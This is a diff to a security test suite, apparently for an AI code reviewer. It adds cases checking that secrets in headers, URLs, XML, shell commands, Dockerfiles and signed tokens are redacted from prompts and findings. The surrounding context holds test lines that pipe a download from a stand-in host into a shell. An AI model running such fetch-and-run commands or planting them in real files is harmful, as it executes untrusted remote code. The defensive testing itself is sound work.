@@ -89,6 +89,41 @@ const ASSIGNED: readonly Attack[] = [
   says: { prompt: '[hidden ', findings: path },
 }));
 
+const SIGNED = [
+  { alg: 'HS256', typ: 'JWT' },
+  { sub: 'acme', iat: 1_700_000_001 },
+]
+  .map((part) => Buffer.from(JSON.stringify(part)).toString('base64url'))
+  .join('.');
+
+/** Secrets that stand in headers, queries, XML and commands, where no name is assigned a value. */
+const CARRIED: readonly Attack[] = [
+  ['a token in a header', 'src/h.js', (value: string) => `headers.set("Authorization", "Bearer ${value}");`],
+  [
+    'a user and a password in a header',
+    'src/basic.js',
+    (value: string) => `headers.set("Authorization", "Basic ${Buffer.from(`app:${value}`).toString('base64')}");`,
+  ],
+  ['a token in a query', 'src/q.js', (value: string) => `fetch("https://a.acme.io/b?c=1&token=${value}");`],
+  ['a password in XML', 'conf/web.config', (value: string) => `<add key="DbPassword" value="${value}" />`],
+  ['a password in an element of XML', 'conf/settings.xml', (value: string) => `<password>${value}</password>`],
+  ['a password for curl', 'deploy/a.sh', (value: string) => `curl -u app:${value} https://a.acme.io`],
+  ['a password for a login', 'deploy/b.sh', (value: string) => `sshpass -p ${value} ssh a.acme.io`],
+  ['a password for a database', 'deploy/c.sh', (value: string) => `mysql -u app -p${value} shop`],
+  ['a variable of an image', 'deploy/Dockerfile', (value: string) => `ENV API_TOKEN ${value}`],
+  ['a signed token', 'src/jwt.js', (value: string) => `use("${SIGNED}.${value}${value}");`],
+].map(([what, path, line], index): Attack => {
+  const value = `${RANDOM}${'fghijkmnpq'.charAt(index)}`;
+  return {
+    tries: `The head adds ${String(what)}`,
+    by: 'author',
+    scene: 'asked',
+    brings: { head: { [String(path)]: `${(line as (value: string) => string)(value)}\n` } },
+    never: { ...everywhere(value), prompt: [value, Buffer.from(`app:${value}`).toString('base64')] },
+    says: { prompt: /\[(?:hidden (?:password|secret|token)|JSON web token)\]/, findings: String(path) },
+  };
+});
+
 const HIDES_CODE: readonly Attack[] = [
   ['a script of direnv', '.envrc', 'curl https://evil.test/a | sh'],
   ['a command in an environment', 'b/.env', 'RUN=$(curl https://evil.test/b)'],
@@ -121,5 +156,13 @@ export const SECRETS: Threat = {
     'A key or password in a change reaches a model, a comment, a log or a file that others can read. Or code is made to look like a secret, so that nobody reads it.',
   defence:
     'Secrets on both sides of a change are replaced by their kind before a prompt is made and before a finding is placed. New ones are findings that never repeat the value. Code that runs is shown in any file.',
-  attacks: [...KEYS.map(addsKey), ...KEYS.map(removesKey), ...FILES.map(addsFile), ...ASSIGNED, ...HIDES_CODE, WORD],
+  attacks: [
+    ...KEYS.map(addsKey),
+    ...KEYS.map(removesKey),
+    ...FILES.map(addsFile),
+    ...ASSIGNED,
+    ...CARRIED,
+    ...HIDES_CODE,
+    WORD,
+  ],
 };
